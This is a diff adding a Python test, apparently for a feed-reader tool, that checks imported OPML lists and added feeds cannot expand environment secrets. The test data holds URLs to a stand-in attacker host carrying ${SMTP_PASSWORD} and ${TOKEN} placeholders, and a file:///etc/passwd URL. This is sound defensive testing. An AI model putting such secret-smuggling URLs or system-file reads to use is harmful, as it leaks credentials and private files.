@@ -216,3 +216,23 @@ def test_a_broken_compressed_list_is_named(tmp_path: Path) -> None:
     opml.write_bytes(b"\x1f\x8b\x08 broken")
     with pytest.raises(ConfigError, match=r"mine\.opml cannot be read"):
         import_feeds(tmp_path / "feeds.yaml", opml)
+
+
+def test_a_list_or_a_page_cannot_have_a_secret_sent_to_it(tmp_path: Path) -> None:
+    config, opml = tmp_path / "feeds.yaml", tmp_path / "list.opml"
+    opml.write_text(
+        '<opml version="2.0"><body><outline text="${SMTP_PASSWORD}">'
+        '<outline type="rss" text="a ${HOME} paper" xmlUrl="https://evil.example/?x=${SMTP_PASSWORD}"/>'
+        '<outline type="rss" text="b" xmlUrl="${FEED}"/><outline type="rss" text="c" xmlUrl="./export.xml"/>'
+        '<outline type="rss" text="d" xmlUrl="file:///etc/passwd"/></outline></body></opml>',
+        encoding="utf8",
+    )
+    assert import_feeds(config, opml) == (1, 0, 3)
+    add_feed(config, "https://evil.example/${TOKEN}/rss")
+    settings = load(config, {"SMTP_PASSWORD": "canary", "TOKEN": "canary", "HOME": "canary"})
+    assert settings.ways == {}
+    assert [feed.url for feed in settings.feeds] == [
+        "https://evil.example/?x=%24%7BSMTP_PASSWORD%7D",
+        "https://evil.example/%24%7BTOKEN%7D/rss",
+    ]
+    assert settings.feeds[0].name == "a HOME paper"
